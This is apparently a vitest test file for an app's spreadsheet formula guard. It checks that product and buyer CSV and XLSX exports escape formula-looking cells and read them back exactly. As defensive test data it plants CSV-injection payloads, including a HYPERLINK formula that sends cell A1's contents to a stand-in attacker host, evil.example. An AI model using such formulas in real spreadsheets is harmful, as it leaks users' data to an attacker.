import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { invoke } from '../../main/api/invoke';
import { escapeCell, FORMULA_TRIGGERS, looksLikeFormula, unescapeCell } from '../../main/csv/formulaGuard';
import { exportProducts } from '../../main/imports/export';
import { importProducts } from '../../main/imports/service';
import { tempCore, tempDir } from '../helpers/tempCore';

const cleanup: Array<() => void> = [];
afterEach(() => cleanup.splice(0).forEach((f) => f()));
function core() {
  const c = tempCore();
  cleanup.push(c.remove);
  return c;
}

/** Strings that start with a formula character (or apostrophes before one), and any strings. */
const trigger = fc.constantFrom(...FORMULA_TRIGGERS, "'=", "''+", "'-", "'@");
const formulaLike = fc.tuple(trigger, fc.string({ unit: 'grapheme', maxLength: 40 })).map(([t, rest]) => `${t}${rest}`);
const anyText = fc.oneof(formulaLike, fc.string({ unit: 'grapheme', maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 20 }));
/** What a text field of the app stores (the schemas trim) and a spreadsheet must show as text. */
const storedFormula = formulaLike.map((s) => s.trim()).filter((s) => s !== '' && /^'*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(s));

const cells = (csv: string | Buffer) => (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();

describe('the spreadsheet formula guard (main/csv/formulaGuard.ts)', () => {
  it('writes no cell a spreadsheet would run as a formula, and reads every cell back to exactly the original', () => {
    fc.assert(
      fc.property(anyText, (value) => {
        const written = escapeCell(value);
        expect(looksLikeFormula(written)).toBe(false);
        expect(unescapeCell(written)).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });

  it('prefixes a formula-looking cell with one apostrophe and leaves every other cell alone', () => {
    fc.assert(
      fc.property(formulaLike, (value) => {
        expect(escapeCell(value)).toBe(`'${value}`);
      }),
    );
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', maxLength: 40 }).filter((s) => !/^'*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(s)),
        (value) => {
          expect(escapeCell(value)).toBe(value);
          expect(unescapeCell(value)).toBe(value);
        },
      ),
    );
    expect(escapeCell('=HYPERLINK("http://evil.example","Click")')).toBe('\'=HYPERLINK("http://evil.example","Click")');
    expect(escapeCell('+20 100 123 4567')).toBe("'+20 100 123 4567");
    expect(escapeCell('\t=1+1')).toBe("'\t=1+1");
    expect(escapeCell("O'Neil")).toBe("O'Neil");
  });
});

describe('product CSV export → import with formula-looking cells', () => {
  it('exports them as text and imports them back exactly (property over random names, notes and item nos)', async () => {
    const source = core();
    const values = fc.sample(storedFormula, { numRuns: 60, seed: 17 });
    const created: Array<{ itemNo: string; en: string; zh: string; notes: string; supplier: string }> = [];
    for (const [i, v] of values.entries()) {
      const p = { itemNo: i % 3 === 0 ? `=${i}+1` : i % 3 === 1 ? `-${i}` : `@${i}`, en: v, zh: values[(i + 1) % values.length] as string, notes: values[(i + 2) % values.length] as string, supplier: `+86 138 0013 ${String(i).padStart(4, '0')}` };
      await invoke(source, 'products.create', { itemNo: p.itemNo, names: { en: p.en, zh: p.zh }, notes: p.notes, supplier: p.supplier, priceTiers: [{ minQty: 1, priceCny: '1.50' }] });
      created.push(p);
    }
    await invoke(source, 'products.create', { itemNo: 'EVIL-1', names: { en: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' } });

    const { bytes } = await exportProducts(source, 'csv', true);
    const all = cells(bytes);
    expect(all.filter(looksLikeFormula)).toEqual([]);
    expect(all).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")');

    const target = core();
    const report = await importProducts(target, { fileName: 'products.csv', bytes, owner: true });
    expect(report.problems).toEqual([]);
    for (const p of created) {
      const got = await invoke(target, 'products.get', { itemNo: p.itemNo });
      expect({ itemNo: got.itemNo, en: got.names.en, zh: got.names.zh, notes: got.notes, supplier: got.supplier }).toEqual(p);
    }
    expect((await invoke(target, 'products.get', { itemNo: 'EVIL-1' })).names.en).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
    // And the second export is byte for byte the first.
    expect((await exportProducts(target, 'csv', true)).bytes.equals(bytes)).toBe(true);
  });

  it('keeps XLSX cells typed: a formula-looking name is a text cell (no <f> in the sheet) and imports back as written', async () => {
    const source = core();
    const evil = '=HYPERLINK("http://evil.example","Click")';
    await invoke(source, 'products.create', { itemNo: '=1+1', names: { en: evil, zh: '+86 138 0013 8000' }, notes: '@SUM(A1:A9)' });
    const { bytes } = await exportProducts(source, 'xlsx', true);
    const dir = tempDir();
    cleanup.push(dir.remove);
    const file = path.join(dir.dir, 'products.xlsx');
    fs.writeFileSync(file, bytes);
    const sheetXml = execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' });
    expect(sheetXml).not.toMatch(/<f[ >]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const cell = sheet.getRow(2).getCell(header.indexOf('name_en'));
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(evil);

    const target = core();
    expect((await importProducts(target, { fileName: 'products.xlsx', bytes, owner: true })).problems).toEqual([]);
    const got = await invoke(target, 'products.get', { itemNo: '=1+1' });
    expect([got.names.en, got.names.zh, got.notes]).toEqual([evil, '+86 138 0013 8000', '@SUM(A1:A9)']);
  });
});

describe('buyers CSV export → import with formula-looking cells', () => {
  it('exports them as text and imports them back exactly, + phone numbers included (property over random company, city and notes)', async () => {
    const source = core();
    const values = fc.sample(storedFormula.filter((s) => s.length <= 100), { numRuns: 40, seed: 5 });
    const made: Array<{ company: string; city: string; notes: string; tags: string[]; contacts: Array<{ name: string; phone: string; wechat: string }> }> = [];
    for (const [i, v] of values.entries()) {
      const b = await invoke(source, 'buyers.create', {
        company: `${v} ${i}`,
        country: 'EG',
        city: values[(i + 1) % values.length] as string,
        notes: values[(i + 2) % values.length] as string,
        tags: [`-tag${i}`],
        contacts: [{ name: `=Omar ${i}`, phone: `+20 100 123 ${String(1000 + i)}`, wechat: `@wx${i}` }],
      });
      made.push({ company: b.company, city: b.city, notes: b.notes, tags: b.tags, contacts: b.contacts.map((c) => ({ name: c.name, phone: c.phone, wechat: c.wechat })) });
    }
    const exported = await invoke(source, 'buyers.export', {});
    const all = cells(exported.csv);
    expect(all.filter(looksLikeFormula)).toEqual([]);
    expect(all.filter((c) => c.startsWith("'+20 "))).toHaveLength(values.length);

    const target = core();
    const result = await invoke(target, 'buyers.import', { csv: exported.csv });
    expect(result.errors).toEqual([]);
    expect(result.created).toBe(values.length);
    const back = (await invoke(target, 'buyers.list', { limit: 500 })).items;
    expect(
      back.map((b) => ({ company: b.company, city: b.city, notes: b.notes, tags: b.tags, contacts: b.contacts.map((c) => ({ name: c.name, phone: c.phone, wechat: c.wechat })) })),
    ).toEqual(expect.arrayContaining(made));
    expect(back.every((b) => b.contacts[0]?.phone.startsWith('+20'))).toBe(true);
    expect((await invoke(target, 'buyers.export', {})).csv).toBe(exported.csv);
  });
});

describe('one CSV writer for both areas (main/csv/write.ts)', () => {
  it('writes the same planted note the same way in the products and the buyers export: BOM, guarded, quoted, CRLF after every record', async () => {
    const c = core();
    const planted = ['=HYPERLINK("http://evil.example","Click")', '+20 100 123 4567', '-5', '@SUM(A1)', "'=already guarded", 'line one\nline two', 'a, b'];
    for (const [i, notes] of planted.entries()) {
      await invoke(c, 'products.create', { itemNo: `N-${i}`, names: { en: `Cup ${i}` }, notes });
      await invoke(c, 'buyers.create', { company: `Shop ${i}`, country: 'EG', notes });
    }
    const products = (await exportProducts(c, 'csv', true)).bytes.toString('utf8');
    const buyers = (await invoke(c, 'buyers.export', {})).csv;
    for (const text of [products, buyers]) {
      expect(text.startsWith('\ufeff')).toBe(true);
      // Outside quoted cells every line break is CRLF.
      expect(text.replace(/"(?:[^"]|"")*"/g, '').replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      expect(text.endsWith('\r\n')).toBe(true);
    }
    const written = ['"\'=HYPERLINK(""http://evil.example"",""Click"")"', "'+20 100 123 4567", "'-5", "'@SUM(A1)", "''=already guarded", '"line one\nline two"', '"a, b"'];
    for (const field of written) {
      expect(products).toContain(`,${field},`);
      expect(buyers).toContain(`,${field},`);
    }
    const notesOf = (text: string) => {
      const [header, ...rows] = parse(text, { bom: true }) as string[][];
      const at = (header ?? []).indexOf('notes');
      return rows.map((r) => r[at] ?? '');
    };
    expect(notesOf(products).map(unescapeCell)).toEqual(planted);
    expect(notesOf(buyers).map(unescapeCell)).toEqual(planted);
  });
});
